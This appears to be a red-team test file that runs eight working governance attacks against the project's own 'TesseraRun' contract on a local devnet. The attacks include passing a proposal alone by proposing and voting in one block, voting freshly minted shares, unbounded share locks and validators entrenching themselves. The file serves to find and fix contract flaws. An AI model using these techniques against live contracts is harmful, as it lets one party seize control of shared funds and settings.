/**
 * Red team, issue 17 (contract half): can the run's governance be captured? Each test runs one
 * attack against TesseraRun on the in-process EDR devnet. This first version demonstrates that
 * every attack works against the contract as it stands (the assertions are the attack's effect).
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { encodeFunctionData, keccak256, toHex, type Address, type Hex } from 'viem';
import {
  startDevnet,
  ledgerClient,
  deployRun,
  signScoreReport,
  mintRound,
  propose,
  proposeValidators,
  vote,
  execute,
  getSetting,
  getShares,
  read,
  loadArtifacts,
  clientsFor,
  CommitmentQueue,
  ContractRevertError,
  type Devnet,
  type LedgerClient,
  type ScoreReport,
} from '../src/ledger/index.js';

let net: Devnet;
const MANIFEST = keccak256(toHex('manifest'));
const h = (s: string): Hex => keccak256(toHex(s));
const E18 = 10n ** 18n;

// keys: 0 deployer/submitter, 1..4 validators (3-of-4), 5..9 holders, 10 outsider, 11 payer
const client = (i: number, address: Address): LedgerClient =>
  ledgerClient(net.request, net.chain, net.keys[i], address);
const addrOf = (i: number): Address => clientsFor(net.request, net.chain, net.keys[i]).account.address;
const validators = (): Address[] => [1, 2, 3, 4].map(addrOf);

async function deploy(opts: { quorumBps?: number } = {}): Promise<{ address: Address; gasUsed: bigint }> {
  const c = clientsFor(net.request, net.chain, net.keys[0]);
  return deployRun(c as never, { manifestHash: MANIFEST, validators: validators(), threshold: 3, ...opts });
}
function report(round: bigint, recipients: Address[], scores: bigint[]): ScoreReport {
  return {
    manifestHash: MANIFEST,
    round,
    weightsHash: h(`w${round}`),
    checkpointCid: toHex(`bafy-round-${round}`),
    updatesRoot: h(`u${round}`),
    scoresRoot: h(`s${round}`),
    recipients,
    scores,
  };
}
async function sign(address: Address, r: ScoreReport, signers: number[]) {
  return Promise.all(
    signers.map((i) =>
      signScoreReport({
        account: clientsFor(net.request, net.chain, net.keys[i]).account,
        chainId: net.chain.id,
        contract: address,
        report: r,
      }),
    ),
  );
}
/** Mint one round to holders `who` (key indices) with `scores`, signed by validators 1..3. */
async function mint(address: Address, round: bigint, who: number[], scores: bigint[]) {
  const r = report(round, who.map(addrOf), scores);
  return mintRound(client(0, address), { report: r, signatures: await sign(address, r, [1, 2, 3]) });
}
const reverts = (reason: string) => (e: unknown) => {
  assert.ok(e instanceof ContractRevertError, `expected ContractRevertError, got ${String(e)}`);
  assert.equal(e.reason, reason);
  return true;
};
const balanceOf = (c: LedgerClient, i: number) => read<bigint>(c, 'balanceOf', [addrOf(i)]);
async function transfer(address: Address, from: number, to: number, amount: bigint) {
  const c = client(from, address);
  const { request } = await c.publicClient.simulateContract({
    address,
    abi: c.abi,
    functionName: 'transfer',
    args: [addrOf(to), amount],
    account: c.account,
  } as never);
  const hash = await c.walletClient.writeContract(request as never);
  return c.publicClient.waitForTransactionReceipt({ hash });
}
const now = async () => (await clientsFor(net.request, net.chain, net.keys[0]).publicClient.getBlock()).timestamp;

before(async () => {
  loadArtifacts();
  net = await startDevnet({ accounts: 12 });
});
after(() => net.stop());

test('attack 1: a proposer picks a 1-second window, votes in the same block, and passes alone', async (t) => {
  const { address } = await deploy({ quorumBps: 2000 });
  await mint(address, 1n, [5, 6], [25n, 75n]); // 5: 25%, 6: 75% (who would vote no)
  const a = client(5, address);
  // propose and vote in one block: nobody else gets a block inside the window
  await net.request({ method: 'evm_setAutomine', params: [false] } as never);
  const key = toHex('dataset', { size: 32 });
  const tx = (data: Hex, nonce: number) =>
    a.walletClient.sendTransaction({ to: address, data, gas: 1_000_000n, nonce } as never);
  const nonce = await a.publicClient.getTransactionCount({ address: addrOf(5) });
  await tx(
    encodeFunctionData({ abi: a.abi, functionName: 'propose', args: [key, toHex('bafy-evil'), 1n] } as never),
    nonce,
  );
  await tx(encodeFunctionData({ abi: a.abi, functionName: 'vote', args: [0n, true] } as never), nonce + 1);
  await net.request({ method: 'evm_mine', params: [] } as never);
  await net.request({ method: 'evm_setAutomine', params: [true] } as never);
  await assert.rejects(vote(client(6, address), { id: 0n, support: false })); // the window has closed
  assert.equal((await read<{ no: bigint }>(a, 'getProposal', [0n])).no, 0n);
  await net.increaseTime(2);
  const passed = (await execute(client(0, address), { id: 0n })).passed;
  t.diagnostic(`window 1 s: passed=${passed} with 1 voter (25% of supply); the 75% holder was refused`);
  assert.equal(passed, true);
  assert.equal(await getSetting(a, 'dataset'), 'bafy-evil');
});

test('attack 2: shares minted during a vote are voted in it', async (t) => {
  const { address } = await deploy({ quorumBps: 2000 });
  await mint(address, 1n, [5, 6], [30n, 70n]);
  const p = await propose(client(5, address), { key: 'dataset', value: 'bafy-evil', durationSeconds: 3600 });
  await vote(client(5, address), { id: p.id, support: true });
  await vote(client(6, address), { id: p.id, support: false });
  // the next rounds mint to a fresh address that votes with them
  await mint(address, 2n, [7], [1n]);
  await mint(address, 3n, [7], [1n]);
  await vote(client(7, address), { id: p.id, support: true });
  const pr = await read<{ yes: bigint; no: bigint; supplyAtStart: bigint }>(client(0, address), 'getProposal', [p.id]);
  await net.increaseTime(3601);
  const passed = (await execute(client(0, address), { id: p.id })).passed;
  t.diagnostic(
    `yes ${pr.yes / E18} + no ${pr.no / E18} = ${(pr.yes + pr.no) / E18} shares voted, supply at proposal ${pr.supplyAtStart / E18}; passed=${passed}`,
  );
  assert.ok(pr.yes + pr.no > pr.supplyAtStart);
  assert.equal(passed, true);
});

test('attack 3: a vote locks the voter shares for an unbounded time', async (t) => {
  const { address } = await deploy();
  await mint(address, 1n, [5, 6], [1n, 1n]);
  const t0 = await now();
  const p = await propose(client(5, address), { key: 'lr', value: '1', durationSeconds: Number.MAX_SAFE_INTEGER });
  await vote(client(6, address), { id: p.id, support: false });
  const until = await read<bigint>(client(0, address), 'lockedUntil', [addrOf(6)]);
  await net.increaseTime(10 * 365 * 86400);
  await assert.rejects(transfer(address, 6, 7, 1n), /SharesLocked/);
  t.diagnostic(
    `voter's shares locked until ${until} (${Number(until - t0) / 3.15576e7} years); still locked 10 years on`,
  );
  assert.ok(until - t0 > 10n ** 15n);
});

test('attack 4: passed proposals never expire and execute out of order', async (t) => {
  const { address } = await deploy();
  await mint(address, 1n, [5, 6], [1n, 1n]);
  const a = client(5, address);
  const old = await propose(a, { key: 'dataset', value: 'bafy-old', durationSeconds: 3600 });
  const neu = await propose(a, { key: 'dataset', value: 'bafy-new', durationSeconds: 3600 });
  await vote(a, { id: old.id, support: true });
  await vote(a, { id: neu.id, support: true });
  await net.increaseTime(3601);
  assert.equal((await execute(client(0, address), { id: neu.id })).passed, true);
  await net.increaseTime(3650 * 86400);
  assert.equal((await execute(client(0, address), { id: old.id })).passed, true);
  const v = await getSetting(a, 'dataset');
  t.diagnostic(`newer proposal executed first, the older one 10 years late: dataset = ${v}`);
  assert.equal(v, 'bafy-old');
});

test('attack 5: "no" votes help reach the quorum', async (t) => {
  const { address } = await deploy({ quorumBps: 2000 });
  await mint(address, 1n, [5, 6, 7], [11n, 10n, 79n]);
  const alone = await propose(client(5, address), { key: 'lr', value: '1', durationSeconds: 60 });
  await vote(client(5, address), { id: alone.id, support: true });
  const helped = await propose(client(5, address), { key: 'lr', value: '2', durationSeconds: 60 });
  await vote(client(5, address), { id: helped.id, support: true });
  await vote(client(6, address), { id: helped.id, support: false });
  await net.increaseTime(61);
  const a = (await execute(client(0, address), { id: alone.id })).passed;
  const b = (await execute(client(0, address), { id: helped.id })).passed;
  t.diagnostic(`11% yes alone: passed=${a}; 11% yes + 10% no: passed=${b}`);
  assert.equal(a, false);
  assert.equal(b, true);
});

test('attack 6: a later round minted first makes the earlier one unmintable; the queue calls it on chain', async (t) => {
  const { address } = await deploy();
  const c = client(0, address);
  await mint(address, 5n, [5], [1n]);
  const r4 = report(4n, [addrOf(6)], [1n]);
  const q = new CommitmentQueue();
  q.enqueue({ report: r4, signatures: await sign(address, r4, [1, 2, 3]) });
  const f = await q.flush(c);
  const minted4 = await read<boolean>(c, 'isMinted', [4n]);
  const bal6 = await balanceOf(c, 6);
  t.diagnostic(
    `queue: alreadyOnChain=[${f.alreadyOnChain.join(',')}] submitted=[${f.submitted.join(',')}]; isMinted(4)=${minted4}; round 4's holder has ${bal6}`,
  );
  assert.deepEqual(f.alreadyOnChain, [4n]);
  assert.equal(minted4, false);
  assert.equal(bal6, 0n);
});

test('attack 7: one quorum-signed round near 2^64 ends minting', async (t) => {
  const { address } = await deploy();
  await mint(address, 1n, [5], [1n]);
  await mint(address, 2n ** 64n - 1n, [5], [1n]);
  await assert.rejects(mint(address, 2n, [5], [1n]), reverts('RoundNotIncreasing'));
  await assert.rejects(mint(address, 2n ** 64n - 1n, [5], [1n]), reverts('RoundNotIncreasing'));
  t.diagnostic('after round 2^64-1, every round (2, 3, ... and 2^64-1 again) is refused: minting has ended');
});

test('attack 8: validators vote their own shares to keep their seats', async (t) => {
  const { address } = await deploy({ quorumBps: 2000 });
  // validators also train: their payout address is their signing key; here they hold 70%
  await mint(address, 1n, [1, 2, 3, 5, 6], [25n, 25n, 20n, 15n, 15n]);
  let passedCount = 0;
  for (let attempt = 0; attempt < 3; attempt++) {
    const p = await proposeValidators(client(5, address), {
      validators: [addrOf(8), addrOf(9)],
      threshold: 2,
      durationSeconds: 60,
    });
    for (const i of [5, 6]) await vote(client(i, address), { id: p.id, support: true });
    for (const i of [1, 2, 3]) await vote(client(i, address), { id: p.id, support: false });
    await net.increaseTime(61);
    if ((await execute(client(0, address), { id: p.id })).passed) passedCount++;
  }
  t.diagnostic(`3 removal votes, 30% of holders for, the validators' own 70% against: ${passedCount} passed`);
  assert.equal(passedCount, 0);
  assert.deepEqual(await read<Address[]>(client(0, address), 'validators'), validators());
});

test('gas: deploy, mintRound, propose, vote, execute', async (t) => {
  const { address, gasUsed } = await deploy();
  const m = await mint(address, 1n, [5, 6], [3n, 1n]);
  const m2 = await mint(address, 2n, [5, 6], [3n, 1n]);
  const a = client(5, address);
  const p = await propose(a, { key: 'dataset', value: 'bafy-next-dataset', durationSeconds: 3600 });
  const gasOf = async (hash: Hex) => (await a.publicClient.getTransactionReceipt({ hash })).gasUsed;
  const v = await vote(a, { id: p.id, support: true });
  await net.increaseTime(3601);
  const e = await execute(client(0, address), { id: p.id });
  const m3 = await mint(address, 3n, [5, 6], [3n, 1n]);
  const rows = {
    deploy: gasUsed,
    'mintRound (2 new holders, 3 sigs)': m.gasUsed,
    'mintRound (2 existing holders)': m2.gasUsed,
    propose: await gasOf(p.hash),
    vote: await gasOf(v.hash),
    execute: await gasOf(e.hash),
    'mintRound after a vote': m3.gasUsed,
  };
  for (const [k, g] of Object.entries(rows)) t.diagnostic(`gas ${k}: ${g}`);
  void getShares;
});
